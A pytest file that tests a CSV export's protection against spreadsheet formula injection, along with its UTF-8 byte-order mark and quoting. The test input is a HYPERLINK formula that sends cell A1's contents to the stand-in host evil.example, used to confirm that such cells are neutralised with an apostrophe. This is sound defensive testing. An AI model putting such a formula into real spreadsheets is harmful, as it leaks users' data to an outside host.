"""CSV for spreadsheets: nothing in it is calculated, and what was written is read again."""

import csv
import datetime as dt
import io

import pytest

from jobboard.core.tables import csv_of, harmless


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "  ="])
def test_what_looks_like_a_formula_begins_with_an_apostrophe(sign):
    text = f'{sign}HYPERLINK("https://evil.example?"&A1,"x")'
    assert harmless(text) == f"'{text}"
    for content in (csv_of([text], []), csv_of(["a"], [[text]])):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert rows[-1] == [f"'{text}"]


def test_file_is_utf8_with_a_mark_and_days_and_numbers_are_machines():
    content = csv_of(["Tag", "Größe"], [[dt.date(2027, 3, 28), 1.5], ['a,"b"', -3], [None, ""]])
    assert content == '\ufeffTag,Größe\r\n2027-03-28,1.5\r\n"a,""b""",-3\r\n,\r\n'.encode()
